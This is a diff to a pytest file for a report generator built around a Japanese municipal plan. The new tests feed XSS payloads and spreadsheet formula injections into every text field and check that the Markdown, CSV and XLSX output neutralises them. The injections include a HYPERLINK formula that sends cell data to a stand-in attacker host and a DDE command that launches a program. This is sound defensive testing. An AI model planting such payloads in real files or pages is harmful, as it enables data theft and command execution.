@@ -4,6 +4,7 @@ import re
 import shutil
 import subprocess
 from collections import Counter
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -130,7 +131,10 @@ def test_markdown(folder):
     assert "## 基本目標3『交流』" in text
     assert "| H25実績 (2013) | 32.4% | 71.7% | 331件 | 約4億9,600万円 |" in text
     assert "- **後退** 身近に交流の機会があると感じている人の割合:" in text
-    assert "  - 地域勉強会の開催支援(29年9月~11月)" in text
+    assert (
+        "  - 地域勉強会の開催支援(29年9月\\~11月)" in text
+    )  # a lone ~ would pair with the next as strikethrough
+    assert "&lt;ビジョン編&gt;" in text  # an HTML reader would drop <ビジョン編> as an unknown tag
 
 
 def test_every_chart_is_described_and_ids_are_unique(folder, sapporo):
@@ -199,3 +203,162 @@ def test_english_everywhere(sapporo, tmp_path):
 def test_charts_can_be_left_out(sapporo, tmp_path):
     write_report(build_report(sapporo, charts=False), tmp_path, ["html"])
     assert "<svg" not in (tmp_path / "index.html").read_text(encoding="utf-8")
+
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(2)">',
+    "[x](javascript:alert(3))",
+    "![y](javascript:alert(4)) <javascript:alert(5)> *b* _i_ `c` ~s~ | & &lt; \\",
+    "line\n# injected heading\n<script>alert(6)</script>\n    code",
+)
+
+
+def _hostile(plan):
+    """Every text of the plan that report.md shows, with a payload in it."""
+    from dataclasses import replace
+    from itertools import cycle
+
+    it = cycle(PAYLOADS)
+    goals = tuple(
+        replace(
+            g,
+            name=next(it),
+            statement=next(it),
+            footnotes=(next(it), "- a list?", "1. a number?", "> a quote?", "=====", *g.footnotes),
+            policies=tuple(
+                replace(
+                    p,
+                    title=next(it),
+                    initiatives=tuple(replace(i, text=next(it), facts=(next(it),)) for i in p.initiatives),
+                )
+                for p in g.policies
+            ),
+            narratives=tuple(
+                replace(
+                    n,
+                    items=tuple(
+                        replace(item, heading=next(it), text=next(it), bullets=(next(it),))
+                        for item in n.items
+                    ),
+                )
+                for n in g.narratives
+            ),
+        )
+        for g in plan.goals
+    )
+    indicators = tuple(
+        replace(
+            ind,
+            name=next(it),
+            category=next(it),
+            note=next(it),
+            observations=tuple(
+                replace(o, breakdown=tuple((next(it), v) for _, v in o.breakdown), note=next(it))
+                for o in ind.observations
+            ),
+        )
+        for ind in plan.indicators
+    )
+    higher = tuple(
+        replace(h, label=next(it), title=next(it), description=next(it)) for h in plan.higher_plans
+    )
+    return replace(
+        plan,
+        title=next(it),
+        municipality=replace(plan.municipality, name=next(it)),
+        goals=goals,
+        indicators=indicators,
+        higher_plans=higher,
+    )
+
+
+def _shown(markdown: str) -> str:
+    """What a CommonMark reader shows of escaped text: backslash escapes and entities undone."""
+    import html
+
+    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown))
+
+
+def test_markdown_escapes_every_text_from_the_plan_and_staff(sapporo, tmp_path):
+    write_report(build_report(_hostile(sapporo)), tmp_path, ["md"])
+    text = (tmp_path / "report.md").read_text(encoding="utf-8")
+    assert "<" not in text  # no raw HTML, no autolink: every < is &lt;
+    assert not re.search(r"(?<!\\)[\[\]]", text)  # no link, no image
+    assert "\\`c\\`" in text and "\\*b\\*" in text and "\\_i\\_" in text and "\\~s\\~" in text
+    lines = text.splitlines()
+    assert not any(line.startswith(("# injected", "    code", "<")) for line in lines)
+    for footnote in (
+        "\\- a list?",
+        "1\\. a number?",
+        "&gt; a quote?",
+        "\\=====",
+    ):  # never a list, quote, heading
+        assert footnote in lines, footnote
+    shown = " ".join(_shown(text).split())
+    for payload in PAYLOADS:  # and every text reads as it was written
+        assert " ".join(payload.split()) in shown, payload
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")
+
+
+def _with_formulas(plan):
+    """Text that a spreadsheet would run, in every text the report's CSV and XLSX carry, and a negative figure."""
+    from dataclasses import replace
+    from itertools import cycle
+
+    it = cycle(FORMULAS)
+    first = plan.indicators[0]
+    observations = (replace(first.observations[0], value=Decimal("-3.5")), *first.observations[1:])
+    indicators = tuple(
+        replace(
+            ind,
+            name=next(it),
+            category=next(it),
+            unit=ind.unit,
+            observations=tuple(
+                replace(
+                    o,
+                    note=next(it),
+                    source_text=next(it),
+                    breakdown=tuple((next(it), v) for _, v in o.breakdown),
+                )
+                for o in (observations if ind is first else ind.observations)
+            ),
+            targets=tuple(replace(t, source_text=next(it)) for t in ind.targets),
+        )
+        for ind in plan.indicators
+    )
+    goals = tuple(replace(g, name=next(it), statement=next(it), footnotes=(next(it),)) for g in plan.goals)
+    return replace(plan, title=next(it), municipality=replace(plan.municipality, name=next(it)),
+                   goals=goals, indicators=indicators)  # fmt: skip
+
+
+def test_csv_and_xlsx_never_carry_a_formula(sapporo, tmp_path):
+    import csv
+
+    write_report(build_report(_with_formulas(sapporo)), tmp_path, ["csv", "xlsx"])
+    for name in ("observations.csv", "targets.csv", "evaluations.csv"):
+        rows = list(csv.reader((tmp_path / name).read_text(encoding="utf-8-sig").splitlines(keepends=True)))
+        cells = [c for row in rows for c in row]
+        assert not [
+            c
+            for c in cells
+            if c[:1] in ("=", "+", "@", "\t") or (c[:1] == "-" and c[1:2] not in "0123456789")
+        ], name
+        assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells, name
+    observations = list(
+        csv.reader((tmp_path / "observations.csv").read_text(encoding="utf-8-sig").splitlines())
+    )
+    assert observations[1][observations[0].index("値")] == "-3.5"  # a number is data, not a formula
+    book = load_workbook(tmp_path / "report.xlsx")
+    texts = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+    assert set(FORMULAS) <= texts  # in a workbook, text stays exactly the text, as a string
+    assert book["データ"]["M2"].value == -3.5
